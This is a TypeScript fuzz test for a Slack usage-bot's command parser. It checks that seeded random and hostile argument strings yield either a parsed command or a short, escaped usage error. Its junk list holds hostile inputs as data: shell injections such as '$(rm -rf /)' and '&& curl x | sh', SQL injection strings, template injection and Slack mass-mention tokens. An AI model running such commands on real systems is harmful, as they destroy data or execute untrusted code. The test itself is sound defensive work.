/**
 * Property-style: random and hostile argument strings from a seeded PRNG. Whatever arrives, the parser
 * returns a ParsedCommand or throws a UsageError whose message is short and safe to post in Slack.
 */
import { describe, expect, it } from 'vitest';
import { parseCommandText } from '../../../commands/args/parse-command.js';
import { MAX_POINTS } from '../../../commands/args/parse-range.js';
import type { ParsedCommand } from '../../../commands/args/parsed-command.js';
import { createRng as prng } from '../../../src/dev/simulator/seeded-random.js';
import { UsageError } from '../../../src/errors.js';
import { createBuckets } from '../../../src/figures/buckets.js';

const now = new Date('2026-11-24T10:00:00Z');

const vocabulary = [
  'usage',
  'top',
  'reviews',
  'me',
  'export',
  'help',
  'digest',
  'teams',
  'inactive',
  'nudge',
  '@platform',
  '#team-payments',
  '<!subteam^S0123|@platform>',
  'page',
  'Data Science',
  'team',
  'team @platform',
  'team "Data Science"',
  '"',
  'subscribe',
  'list',
  'unsubscribe',
  'preview',
  'send-now',
  '7d',
  '14d',
  '30d',
  '90d',
  '91d',
  '0d',
  'this-week',
  'last-week',
  'this-month',
  'last-month',
  'this-quarter',
  'last-quarter',
  '6m',
  '12m',
  'all',
  '25m',
  '0m',
  '365d',
  '732d',
  '2026-01..2026-06',
  '2025-11..2026-02',
  '2026-13..2027-01',
  '2026-01..2026-03-05',
  '2026-11',
  'month',
  'quarter',
  'monthly',
  'quarterly',
  '2026-11-01..2026-11-15',
  '2026-08-25..2026-09-01',
  '2026-02-30',
  'by',
  'day',
  'week',
  'cli',
  'IDE',
  'cloud',
  'desktop',
  'review',
  'code-review',
  'other',
  'credits',
  'threads',
  'turns',
  'tokens',
  'streak',
  '10',
  '50',
  '51',
  'csv',
  'json',
  'users',
  '<#C0123|general>',
  '<#C0123>',
  'mon',
  'Friday',
  '09:00',
  '25:61',
  'Europe/Paris',
  'Nowhere/Land',
  'standard',
  'leadership',
  '3',
];

/** The alert rule grammar's words (issue 13), fuzzed on their own below. */
const alertVocabulary = [
  'credits',
  'usd',
  'active-users',
  'threads',
  'positive-share',
  'p0',
  'above',
  'below',
  'over',
  'rises',
  'drops',
  'change',
  'anomaly',
  'per',
  'day',
  'week',
  'month',
  'weekly',
  '5000',
  '5,000',
  '5k',
  '$200',
  '0.5',
  '60%',
  '20%',
  '+20%',
  '-20%',
  '0%',
  '3',
  '25',
  'cli',
  'ide',
  'team',
  '@platform',
  '<!subteam^S0123|@platform>',
  '#payments',
  'user',
  '<@U0123|ana>',
  '<#C0123|ops>',
  'dm',
  'provisional',
  'recover',
  'notify-recovery',
];

const junk = [
  '',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\u00a0',
  '\u3000',
  '日本語',
  'ümlaut',
  'Ωmega',
  '\u202eevil',
  'a\u200bb',
  '😀',
  '👨‍👩‍👧',
  '🏳️‍🌈',
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U123>',
  '<@U123|bob>',
  '<#C1|x>',
  '<https://evil.example|click>',
  '&lt;!channel&gt;',
  "'; DROP TABLE users;--",
  '" OR 1=1 --',
  '$(rm -rf /)',
  '`ls`',
  '&& curl x | sh',
  '; reboot',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '..',
  '...',
  '-1d',
  '1e3',
  'NaN',
  'Infinity',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '%s%s%n',
  '{{7*7}}',
  '$'.concat('{process.exit()}'),
  'x'.repeat(10_000),
  '<!channel>'.repeat(200),
  `${'a'.repeat(59)}<!channel>`,
  '9'.repeat(400),
  '2026-11-01..'.repeat(50),
  '2026-11..'.repeat(50),
  '9999-12..9999-12',
  '0000-01..0000-02',
  '1969-12',
  `${'9'.repeat(30)}m`,
  'by quarterquarter',
];

function randomText(next: () => number): string {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
  const count = Math.floor(next() * 7);
  const words: string[] = [];
  for (let i = 0; i < count; i++) words.push(next() < 0.6 ? pick(vocabulary) : pick(junk));
  const separator = pick([' ', '  ', '\t', ' \n ', '']);
  return words.join(separator);
}

function check(text: string): ParsedCommand | UsageError {
  try {
    return parseCommandText(text, now, { defaultTimeZone: 'Europe/Berlin' });
  } catch (error) {
    if (!(error instanceof UsageError))
      throw new Error(`non-UsageError for ${JSON.stringify(text.slice(0, 200))}`, { cause: error });
    return error;
  }
}

function expectSafe(result: ParsedCommand | UsageError): void {
  if (!(result instanceof UsageError)) return;
  expect(result.message.length).toBeLessThan(1500);
  expect(result.message).not.toContain('<!');
  // Stronger than the requirement: no raw `<` at all, so no mention, link or channel can form.
  expect(result.message).not.toContain('<');
  expect(result.code).toBe('usage_invalid');
}

describe('hostile input', () => {
  it('200 seeded random strings: a ParsedCommand or a short, escaped UsageError', () => {
    const next = prng(20261124);
    let parsed = 0;
    let rejected = 0;
    for (let i = 0; i < 200; i++) {
      const result = check(randomText(next));
      expectSafe(result);
      if (result instanceof UsageError) rejected++;
      else parsed++;
    }
    // The mix must exercise both outcomes, or the property says little.
    expect(parsed).toBeGreaterThan(10);
    expect(rejected).toBeGreaterThan(10);
  });

  it.each(junk.map((j) => [j]))('every junk word after every subcommand: %j', (word) => {
    for (const prefix of [
      '',
      'usage ',
      'top ',
      'reviews ',
      'me ',
      'me subscribe ',
      'me subscribe fri ',
      'me unsubscribe ',
      'export usage ',
      'usage team ',
      'top 30d team ',
      'export users team ',
      'reviews team ',
      'digest subscribe team ',
      'digest subscribe ',
      'digest unsubscribe ',
      'alert ',
      'alert preview ',
      'alert preview credits ',
      'alert preview credits above ',
      'alert preview credits above 5 per ',
      'alert preview credits anomaly ',
      'alert preview credits above 5 team ',
      'teams ',
      'inactive ',
      'inactive 30d ',
      'inactive page ',
      'nudge ',
      'nudge inactive ',
      'budget ',
      'budget set ',
      'budget set 500 ',
      'budget remove team ',
      'help ',
    ]) {
      expectSafe(check(`${prefix}${word}`));
    }
  });

  it('200 seeded random alert rules: a rule or a short, escaped UsageError', () => {
    const next = prng(20261207);
    const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
    let parsed = 0;
    let rejected = 0;
    for (let i = 0; i < 200; i++) {
      // Shaped like a rule (a metric, a condition, then anything) so that many parse, yet any slot may be wrong.
      const word = () => (next() < 0.85 ? pick(alertVocabulary) : pick(junk));
      const metric = next() < 0.8 ? pick(['credits', 'usd', 'threads', 'active-users', 'p0']) : word();
      const condition = next() < 0.8 ? pick(['above', 'below', 'rises', 'drops', 'anomaly']) : word();
      const rest = Array.from({ length: Math.floor(next() * 5) }, word);
      const words = [metric, condition, ...rest];
      const result = check(`alert preview ${words.join(' ')}`);
      expectSafe(result);
      if (result instanceof UsageError) rejected++;
      else parsed++;
    }
    expect(parsed).toBeGreaterThan(5);
    expect(rejected).toBeGreaterThan(10);
  });

  it('300 seeded team-command strings: a ParsedCommand or a short, escaped UsageError', () => {
    const next = prng(20261212);
    const heads = ['teams', 'inactive', 'nudge', 'nudge inactive', 'inactive 14d'];
    let parsed = 0;
    let rejected = 0;
    for (let i = 0; i < 300; i++) {
      const head = heads[Math.floor(next() * heads.length)] ?? 'teams';
      const result = check(`${head} ${randomText(next)}`);
      expectSafe(result);
      if (result instanceof UsageError) rejected++;
      else {
        parsed++;
        // A team that reached a command never carries a raw mention or a control character.
        if ((result.name === 'inactive' || result.name === 'nudge') && result.team !== null) {
          expect(result.team.length).toBeLessThanOrEqual(80);
          expect(result.team).not.toMatch(/<[!@](?!subteam\^)/);
          expect(result.team).not.toMatch(/[\p{Cc}\u202e]/u);
        }
      }
    }
    expect(parsed).toBeGreaterThan(10);
    expect(rejected).toBeGreaterThan(10);
  });

  it('300 seeded strings with a team slot: a ParsedCommand or a short, escaped UsageError', () => {
    const next = prng(20261207);
    const heads = ['usage', 'top', 'reviews', 'export usage', 'export users', 'digest subscribe'];
    let withTeam = 0;
    let rejected = 0;
    for (let i = 0; i < 300; i++) {
      const head = heads[Math.floor(next() * heads.length)] ?? 'usage';
      // Shaped like a filter (`team <word>`, the word often a team) so that many parse, yet anything may follow.
      const teams = [
        '@platform',
        '#team-payments',
        '"Data Science"',
        '<!subteam^S0123|@platform>',
        '<#C0123>',
      ];
      const name =
        next() < 0.6 ? teams[Math.floor(next() * teams.length)] : junk[Math.floor(next() * junk.length)];
      const extra = next() < 0.5 ? '' : randomText(next);
      const result = check(`${head} team ${name ?? ''} ${extra}`);
      expectSafe(result);
      if (result instanceof UsageError) {
        rejected++;
        continue;
      }
      const team = 'team' in result ? result.team : null;
      if (team === null || team === undefined) continue;
      withTeam++;
      // A team that reached a command never carries a raw mention or a control character.
      expect(team.length).toBeLessThanOrEqual(80);
      expect(team).not.toMatch(/<[!@#](?!subteam\^S|C|G)/);
      expect(team).not.toMatch(/[\p{Cc}\u202e\u200b]/u);
    }
    expect(withTeam).toBeGreaterThan(10);
    expect(rejected).toBeGreaterThan(10);
  });

  it('does not let prototype keys through as values', () => {
    for (const word of ['constructor', '__proto__', 'toString']) {
      expect(check(`digest subscribe ${word}`)).toBeInstanceOf(UsageError);
      expect(check(`usage ${word}`)).toBeInstanceOf(UsageError);
      expect(check(`alert preview ${word} above 5`)).toBeInstanceOf(UsageError);
      expect(check(`alert preview credits ${word} 5`)).toBeInstanceOf(UsageError);
      expect(check(word)).toBeInstanceOf(UsageError);
    }
  });
});

describe('long ranges on any day', () => {
  const rangeTokens = [
    '6m',
    '12m',
    '24m',
    '1m',
    'this-month',
    'last-month',
    'this-quarter',
    'last-quarter',
    '365d',
    '731d',
    '2025-01..2025-12',
    '2024-12..2025-02',
    '2025-02',
  ];
  const buckets = ['', 'by day', 'by week', 'by month', 'by quarter'];

  it('300 seeded (day, range, grouping): a closed-or-running, non-empty window of at most two years, or a UsageError', () => {
    const next = prng(20261207);
    const from = Date.parse('2025-06-01T00:00:00Z');
    const span = Date.parse('2028-06-01T00:00:00Z') - from;
    let parsed = 0;
    for (let i = 0; i < 300; i++) {
      const day = new Date(from + Math.floor(next() * span));
      const token = rangeTokens[Math.floor(next() * rangeTokens.length)] ?? '6m';
      const bucket = buckets[Math.floor(next() * buckets.length)] ?? '';
      let result: ParsedCommand;
      try {
        result = parseCommandText(`usage ${token} ${bucket}`, day);
      } catch (error) {
        expect(error).toBeInstanceOf(UsageError);
        expectSafe(error as UsageError);
        continue;
      }
      parsed++;
      if (result.name !== 'usage') throw new Error('expected a usage request');
      const { window } = result;
      const nowSeconds = Math.floor(day.getTime() / 1000);
      expect(window.start).toBeLessThan(window.end);
      expect(window.end).toBeLessThanOrEqual(nowSeconds);
      expect(window.end - window.start).toBeLessThanOrEqual(731 * 86_400);
      expect(window.running).toBe(window.end === nowSeconds);
      expect(createBuckets(window, result.bucket).count).toBeLessThanOrEqual(MAX_POINTS);
      if (/^\d+m$|month|quarter|^\d{4}-\d{2}(\.\.|$)/.test(token)) {
        // Month-shaped words start on the first of a month, 00:00 UTC.
        expect(new Date(window.start * 1000).toISOString().slice(8)).toBe('01T00:00:00.000Z');
      }
    }
    expect(parsed).toBeGreaterThan(100);
  });
});
